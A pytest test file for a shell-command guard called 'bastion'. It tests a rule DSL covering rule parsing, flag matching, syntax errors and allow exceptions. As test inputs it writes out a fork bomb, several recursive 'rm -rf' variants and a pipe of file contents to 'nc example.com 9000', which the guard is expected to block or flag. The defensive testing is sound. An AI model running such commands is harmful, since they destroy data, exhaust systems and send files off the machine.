"""The rule DSL: the design's examples, flags however spelled, errors with positions."""

from __future__ import annotations

import pytest

from bastion.model import Decision
from bastion.rules.dsl import RuleSyntaxError, parse_rules
from bastion.rules.engine import RuleSet
from bastion.rules.loader import RuleLoadError, builtin_rule_files, load_rule_file
from bastion.rules.model import AstMatch, NotInListMatch, RegexMatch
from bastion.rules.testing import check_examples
from conftest import FIXTURES, guard_from_rules, load_design


def test_design_examples_parse_into_the_documented_kinds() -> None:
    rule_file = load_rule_file(FIXTURES / "design.rules")
    kinds = {r.id: type(r.matchers[0]) for r in rule_file.rules}
    assert kinds == {
        "destructive-rm": AstMatch,
        "fork-bomb": RegexMatch,
        "unknown-executable": NotInListMatch,
        "pipe-to-network": AstMatch,
    }
    assert {r.id: r.decision for r in rule_file.rules}["unknown-executable"] is Decision.ASK


@pytest.mark.parametrize(
    "command",
    ["rm -rf build", "rm -fr build", "rm -r -f build", "rm build -r", "rm -r build"],
)
def test_design_destructive_rm_blocks_recursive_rm(command: str) -> None:
    verdict = load_design().check(command)
    assert verdict.decision is Decision.DENY
    assert verdict.findings[0].rule_id == "destructive-rm"
    assert "trash-cli" in verdict.reason


def test_design_destructive_rm_leaves_plain_rm() -> None:
    assert load_design().check("rm notes.txt").decision is Decision.ALLOW


def test_design_fork_bomb() -> None:
    verdict = load_design().check(":(){ :|:& };:")
    assert verdict.decision is Decision.DENY
    assert "Fork bomb detected" in verdict.reason


def test_design_unknown_executable_fills_the_placeholder() -> None:
    verdict = load_design().check("frobnicate --all")
    assert verdict.decision is Decision.ASK
    assert "Unknown command 'frobnicate'. Add it to config.toml" in verdict.reason
    assert load_design().check("ls -la").decision is Decision.ALLOW


def test_design_pipeline_to() -> None:
    guard = load_design()
    verdict = guard.check("cat notes.txt | nc example.com 9000")
    assert verdict.decision is Decision.ASK
    assert "Output of cat" in verdict.reason
    assert guard.check("nc -l 9000 | cat").decision is Decision.ALLOW


FLAG_RULE = """
flags "rm"
  alias "-r" "-R" "--recursive"
  alias "-f" "--force"

block "rf"
  match command("rm") with_flags("-rf")
  nudge "no"
"""


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf x",
        "rm -fr x",
        "rm -r -f x",
        "rm -Rf x",
        "rm --recursive --force x",
        "rm x -r -f",
        "rm x --force -R",
        "/bin/rm -rf x",
        "sudo rm -rf x",
    ],
)
def test_flags_match_however_spelled(command: str) -> None:
    assert guard_from_rules(FLAG_RULE).check(command).decision is Decision.DENY


@pytest.mark.parametrize("command", ["rm -r x", "rm -f x", "rm -- -rf", "echo rm -rf x"])
def test_flags_need_every_letter_of_the_group(command: str) -> None:
    assert guard_from_rules(FLAG_RULE).check(command).decision is Decision.ALLOW


def test_allow_rule_is_a_narrow_exception() -> None:
    guard = guard_from_rules(
        FLAG_RULE
        + """
allow "rm-node-modules"
  match command("rm") with_arg("node_modules")
"""
    )
    assert guard.check("rm -rf node_modules").decision is Decision.ALLOW
    # The exception covers its own command only, not a neighbour in the same line.
    assert guard.check("rm -rf node_modules && rm -rf src").decision is Decision.DENY


def test_tier_clause_and_examples_are_kept() -> None:
    rule_file = parse_rules(
        'suspicious "x"\n  match command("x")\n  nudge "n"\n  tier red\n'
        '  example "x 1" "x 2"\n  not_example "y"\n',
        "<t>",
        "t",
    )
    (rule,) = rule_file.rules
    assert str(rule.effective_tier) == "red"
    assert rule.examples == ("x 1", "x 2") and rule.counter_examples == ("y",)


@pytest.mark.parametrize(
    ("text", "line", "column", "words"),
    [
        ('block "x"\n  match command("rm"\n  nudge "n"\n', 2, None, "missing ')'"),
        ('block "x"\n  match command("rm")\n  nudge "n\n', 3, 9, "unterminated string"),
        ('blok "x"\n', 1, 1, "unknown keyword 'blok'"),
        (
            'block "x"\n  match with_flags("-r") comand("rm")\n  nudge "n"\n',
            2,
            None,
            "unknown predicate 'comand'",
        ),
        ('block "x"\n  match (a\n  nudge "n"\n', 2, 9, "bad regex"),
        ('block "x"\n  match (?=lookahead)\n  nudge "n"\n', 2, 9, "bad regex"),
        ('block "x"\n  nudge "n"\n', 1, 1, "no match clause"),
        ('block "x"\n  match command("rm")\n', 1, 1, "no nudge"),
        ('block "x"\n  match command("rm")\n  nudge "n {nope}"\n', 3, 9, "unknown placeholder"),
        ('block "x"\n  match command("rm")\n  nudge "n"\n  tier purple\n', 4, 8, "unknown tier"),
        ('block "Bad Id"\n', 1, 7, "bad rule id"),
        ('  match command("rm")\n', 1, None, "outside a rule"),
        ('block "x"\n  match with_target("nowhere")\n  nudge "n"\n', 2, None, "unknown path class"),
        (
            'block "x"\n  match command("rm")\n  nudge "n"\n'
            'block "x"\n  match command("rm")\n  nudge "n"\n',
            4,
            1,
            "duplicate rule id",
        ),
    ],
)
def test_syntax_errors_name_line_and_column(
    text: str, line: int, column: int | None, words: str
) -> None:
    with pytest.raises(RuleSyntaxError) as info:
        parse_rules(text, "my.rules", "my")
    message = str(info.value)
    assert "\n" not in message
    assert message.startswith(f"my.rules:{line}:")
    if column is not None:
        assert info.value.position.column == column
    assert words in message


def test_malformed_file_loads_nothing(tmp_path) -> None:
    path = tmp_path / "bad.rules"
    path.write_text(
        'block "ok"\n  match command("rm")\n  nudge "n"\n\nblock "bad"\n  match (\n  nudge "n"\n'
    )
    with pytest.raises(RuleLoadError) as info:
        load_rule_file(path)
    assert f"{path}:6:" in str(info.value)


def test_regex_rules_compile_into_one_set() -> None:
    guard = guard_from_rules(
        'block "a"\n  match alpha\\d+\n  nudge "n"\n',
        'block "b"\n  match beta\n  nudge "n"\n',
    )
    ruleset = guard.rules
    assert ruleset._regex_set.size == 2
    verdict = guard.check("run alpha42 beta")
    assert {f.rule_id for f in verdict.findings} == {"a", "b"}


def test_regex_rules_do_not_see_data() -> None:
    guard = guard_from_rules('block "a"\n  match rm\\s+-rf\n  nudge "n"\n')
    assert guard.check("rm -rf x").decision is Decision.DENY
    assert guard.check('git commit -m "rm -rf x"').decision is Decision.ALLOW


def test_unknown_list_is_an_error() -> None:
    with pytest.raises(RuleSyntaxError) as info:
        RuleSet(
            [
                parse_rules(
                    'suspicious "x"\n  match_base_command_not_in nope\n  nudge "n"\n', "f", "f"
                )
            ],
            lists={},
        )
    assert "unknown list 'nope'" in str(info.value)


def test_builtin_packs_pass_their_own_examples() -> None:
    ruleset = RuleSet(builtin_rule_files(), lists={"allowed_executables": frozenset({"ls"})})
    report = check_examples(ruleset)
    assert report.failures == ()
    assert report.checked > 50
    assert report.rules_without_examples == ()


def test_example_checker_reports_a_wrong_example() -> None:
    text = 'block "x"\n  match command("rm")\n  nudge "n"\n  example "ls"\n  not_example "rm a"\n'
    report = check_examples(RuleSet([parse_rules(text, "f", "f")], lists={}))
    assert len(report.failures) == 2
    assert {f.expected_match for f in report.failures} == {True, False}
